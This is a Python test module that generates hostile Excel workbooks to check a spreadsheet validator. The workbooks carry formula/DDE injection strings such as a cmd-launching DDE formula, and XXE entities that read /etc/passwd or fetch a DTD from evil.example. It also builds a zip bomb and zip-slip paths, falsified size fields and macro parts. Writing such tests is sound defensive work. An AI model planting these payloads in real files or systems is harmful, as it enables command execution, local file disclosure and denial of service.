"""Hostile workbooks made of one good ledger, each with what must be said of it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import date
from io import BytesIO
from pathlib import Path
from typing import NamedTuple
from zipfile import ZIP_DEFLATED, ZipFile

from tests.workbooks.grids import headings, mentor_values, row_of, write_grids
from tests.workbooks.raw.hostile import redeclare_size
from validators.sheets import LogEntryRow, MentorRow

INJECTIONS = (
    "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-1-1", "\t=1", "{=1}", "http://evil.example/",
    "\\\\evil.example\\share", '=HYPERLINK("http://evil.example")', "=1+1", "=DDE(1)",
)  # fmt: skip
_SHEET = "xl/worksheets/sheet2.xml"  # 导师库
_ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
)


class Hostile(NamedTuple):
    """A hostile file.

    Attributes:
        name: Of the file.
        data: Its bytes.
        codes: What its finding may be called.
        readable: Whether its rows are read all the same.
    """

    name: str
    data: bytes
    codes: tuple[str, ...]
    readable: bool = False


def good_ledger(folder: Path) -> bytes:
    """Return a small ledger whose texts look like formulas and links."""
    path = folder / "good.xlsx"
    mentors = [headings(MentorRow)]
    for number, text in enumerate(INJECTIONS, 1):
        mentors.append(row_of(MentorRow, **mentor_values(number, remark=text)))
    mentors = [[_plain(cell) for cell in row] for row in mentors]
    write_grids(path, {"导师库": mentors, "工作日志": [headings(LogEntryRow)]})
    return path.read_bytes()


def _plain(cell: object) -> object:
    return cell if cell is None or isinstance(cell, int | float | date) else str(cell)


def hostile_files(good: bytes) -> Iterator[Hostile]:
    """Yield hostile variants of a good ledger."""
    unsafe = ("file.unsafe", "file.too_big", "file.corrupt")
    yield Hostile("bomb.xlsx", _changed(good, {_SHEET: bytes(48 << 20)}), unsafe)
    for number, entity in enumerate(_ENTITIES):
        for part in (_SHEET, "xl/workbook.xml", "xl/sharedStrings.xml"):
            text = re.sub(r"(\?>\s*)", rf"\g<1>{entity}", _part(good, part), count=1)
            text = text.replace("<t>", "<t>&a;", 1)
            name = f"entity{number}-{Path(part).stem}.xlsx"
            yield Hostile(name, _changed(good, {part: text}), unsafe)
    for size in (10, 3_000_000_000):
        yield Hostile(f"size{size}.xlsx", redeclare_size(good, _SHEET, size), unsafe)
    for number, path in enumerate(("../../evil", "/etc/evil", "C:\\evil", "xl\\..\\..\\evil")):
        yield Hostile(f"path{number}.xlsx", _with(good, {path: b"x"}), unsafe)
    for size in range(0, len(good), 512):
        yield Hostile(f"cut{size}.xlsx", good[:size], ("file.corrupt", "file.empty", "file.csv"))
    for number, change in enumerate(_LIES):
        yield Hostile(f"lie{number}.xlsx", _edited(good, *change), (), readable=True)
    stray = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    far = _edited(good, _SHEET, "</sheetData>", stray)
    yield Hostile("stray.xlsx", far, ("sheet.stray_cells",), readable=True)
    macro = _with(good, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0evil"})
    yield Hostile("macro.xlsm", macro, (), readable=True)
    macro_sheet = {"xl/macrosheets/sheet1.xml": b"<evil/>", "xl/xlwings.conf": b"INTERPRETER=evil"}
    yield Hostile("xlm.xlsx", _with(good, macro_sheet), (), readable=True)
    yield Hostile(
        "page.xlsx", "<html><table><tr><td>姓名</td></tr></table>".encode(), ("file.html",)
    )
    yield Hostile(
        "picture.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(99), ("file.not_workbook", "file.corrupt")
    )


_LIES = (
    (_SHEET, r'<dimension ref="[^"]*"/>', '<dimension ref="A1"/>'),
    (_SHEET, r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>'),
    ("xl/sharedStrings.xml", r'uniqueCount="\d+"', 'uniqueCount="4294967295"'),
    ("xl/sharedStrings.xml", r' count="\d+"', ' count="1"'),
)
"""Part, pattern and what it becomes: sizes that are not true."""


def _part(data: bytes, name: str) -> str:
    with ZipFile(BytesIO(data)) as package:
        return package.read(name).decode()


def _edited(data: bytes, part: str, pattern: str, by: str) -> bytes:
    text = _part(data, part)
    changed = re.sub(pattern, lambda _: by, text, count=1)
    assert changed != text, pattern
    return _changed(data, {part: changed})


def _changed(data: bytes, parts: dict[str, str | bytes]) -> bytes:
    """Return the package with some parts replaced."""
    stream = BytesIO()
    with ZipFile(BytesIO(data)) as old, ZipFile(stream, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name, old.read(name)))
    return stream.getvalue()


def _with(data: bytes, parts: dict[str, bytes]) -> bytes:
    """Return the package with parts added."""
    stream = BytesIO(data)
    with ZipFile(stream, "a", ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()
